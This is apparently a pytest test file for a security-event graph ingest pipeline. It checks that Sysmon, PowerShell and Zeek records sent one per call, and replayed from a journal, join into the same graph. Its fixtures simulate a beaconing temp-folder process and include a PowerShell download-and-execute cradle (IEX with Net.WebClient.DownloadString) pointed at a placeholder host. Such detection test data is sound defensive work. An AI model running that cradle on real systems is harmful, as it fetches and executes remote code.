"""Joins across ingest calls: the graph of one record per call is the graph one replay makes.

Some events join on what an earlier event taught the projector: a Sysmon
network event names its process only by GUID, a PowerShell script block only
by pid, a Zeek ``files`` record reaches its URL through the ``http`` record's
file id, and an x509 certificate reaches its server through the ssl record
whose chain starts with it.  Agents post small batches, so the two halves of
such a join usually arrive in different calls.  The journal keeps the join
state with the projection checkpoint, so each call goes on from the last.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from graphsiem.model import stable_hash
from ingest import replay as replay_module
from ingest.journal import Journal
from ingest.normalize import normalize_command_line
from ingest.pipeline import ingest_records
from ingest.replay import project_pending, replay
from tests.reliability.snapshot import snapshot

_ZEEK = json.loads(
    (Path(__file__).resolve().parent.parent / "ingest" / "parsers" / "fixtures" / "zeek" / "records.json").read_text()
)
IMAGE = "C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe"
COMMAND = "upd.exe --beacon 30"
LEASE = {**_ZEEK["dhcp_lease"], "ts": 1767607000.0, "host_name": "ws-1", "assigned_addr": "192.0.2.10",
         "client_addr": "192.0.2.10"}

RECORDS: list[dict[str, Any]] = [
    LEASE,
    # the process's creation names it in full (image, command line, GUID and pid) ...
    {"@timestamp": "2026-01-05T10:00:00Z", "host": {"name": "WS-1.corp.example"},
     "process": {"executable": IMAGE, "command_line": COMMAND, "pid": 4242, "entity_id": "{AAAA-0001}"}},
    # ... its network connection only by image and GUID ...
    {"@timestamp": "2026-01-05T10:00:05Z", "host": {"name": "ws-1"},
     "process": {"executable": IMAGE, "entity_id": "{AAAA-0001}"}, "destination": {"ip": "203.0.113.50"}},
    # ... and a script block it ran only by pid
    {"@timestamp": "2026-01-05T10:00:09Z", "event": {"code": "4104"},
     "winlog": {"channel": "Microsoft-Windows-PowerShell/Operational", "event_id": 4104,
                "computer_name": "ws-1.corp.example", "process": {"pid": 4242},
                "event_data": {"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x')",
                               "ScriptBlockId": "b1", "MessageNumber": "1", "MessageTotal": "1"}}},
    # Zeek http names the file id of its response, the files record the file
    {**_ZEEK["http_host_uri"], "resp_fuids": ["FJ1"]},
    _ZEEK["files_tx_rx"],
    # a certificate after the ssl record that presented it, and one before (names other
    # than the SNI, or none, so only the join can tie them to the server)
    {**_ZEEK["ssl_sni"], "cert_chain_fps": ["ab12", "cd34"]},
    {**_ZEEK["x509_cert"], "san.dns": ["portal.example.org"]},
    {**_ZEEK["x509_cert"], "ts": 1767607300.0, "fingerprint": "ef56",
     "certificate.subject": "CN=mail.example.net", "san.dns": ["mail.example.net"]},
    {key: value for key, value in _ZEEK["ssl_sni"].items() if key != "server_name"}
    | {"ts": 1767607301.0, "uid": "CJ99", "id.resp_h": "203.0.113.60", "cert_chain_fps": ["ef56"]},
]

PROCESS = ("process", stable_hash(IMAGE.lower(), normalize_command_line(COMMAND)))
JOINED = {
    (PROCESS, "CONNECTED", ("ip", "203.0.113.50")),  # by GUID
    ("file", "SERVED_BY", "url"),  # by Zeek file id
    (("domain", "portal.example.org"), "RESOLVES_TO", ("ip", "203.0.113.7")),  # x509 after ssl
    (("domain", "mail.example.net"), "RESOLVES_TO", ("ip", "203.0.113.60")),  # x509 before ssl
}


def _joined(relations: dict) -> set:
    """Which of :data:`JOINED` the graph holds (file and URL keys are matched by type)."""
    found = set()
    for src, type_, dst in relations:
        if (src, type_, dst) in JOINED:
            found.add((src, type_, dst))
        if src[0] == "file" and type_ == "SERVED_BY" and dst[0] == "url":
            found.add(("file", "SERVED_BY", "url"))
    return found


def _script_runner(relations: dict) -> set:
    return {src for src, type_, dst in relations if type_ == "EXECUTED" and dst[0] == "script"}


def _ingest_one_per_call(store: Any, journal: Journal, *, catch_up: bool, between: Any = None) -> None:
    for record in RECORDS:
        report = ingest_records([record], store=None if catch_up else store, journal=journal, origin="api")
        assert report.total.accepted == 1, record
        if catch_up:  # the API's way: journal now, project on the next catch-up
            project_pending(journal, store)
        if between is not None:
            between(journal)


def _new_process(journal: Journal) -> None:
    """As if each call ran in a process of its own (the CLI): the state is read back from the journal."""
    replay_module._RESUMABLE.clear()


def _forget_states(journal: Journal) -> None:
    _new_process(journal)
    journal.connection.execute("DELETE FROM projection_state")


def _damage_states(journal: Journal) -> None:
    _new_process(journal)
    journal.connection.execute("UPDATE projection_state SET state = ?", (b'{"version": 1, "_processes": 7}',))


def _live_and_rebuilt(store: Any, tmp_path: Path, *, catch_up: bool, between: Any) -> tuple[dict, dict]:
    """The graph of one record per call, and the graph a replay of the journal rebuilds."""
    journal = Journal(tmp_path / "journal.sqlite")
    try:
        _ingest_one_per_call(store, journal, catch_up=catch_up, between=between)
        live = snapshot(store)
        replay(journal, store)
        return live, snapshot(store)
    finally:
        journal.close()


@pytest.mark.parametrize("catch_up", [False, True], ids=["projected-per-call", "journal-then-catch-up"])
@pytest.mark.parametrize("between", [None, _new_process], ids=["one-process", "process-per-call"])
def test_one_record_per_call_gives_the_replayed_graph(
    store: Any, tmp_path: Path, catch_up: bool, between: Any
) -> None:
    live, rebuilt = _live_and_rebuilt(store, tmp_path, catch_up=catch_up, between=between)
    assert _joined(live["relations"]) == JOINED
    assert _script_runner(live["relations"]) == {PROCESS}
    for part in ("counts", "entities", "relations", "sightings"):
        assert live[part] == rebuilt[part], part


@pytest.mark.parametrize("between", [_forget_states, _damage_states], ids=["no-state", "damaged-state"])
def test_joins_are_learnt_again_from_the_journal_without_a_usable_state(
    embedded_store: Any, tmp_path: Path, between: Any
) -> None:
    """A journal from before join states (or with a state this version cannot read) joins the same."""
    live, rebuilt = _live_and_rebuilt(embedded_store, tmp_path, catch_up=False, between=between)
    assert _joined(live["relations"]) == JOINED
    assert _script_runner(live["relations"]) == {PROCESS}
    assert live == rebuilt
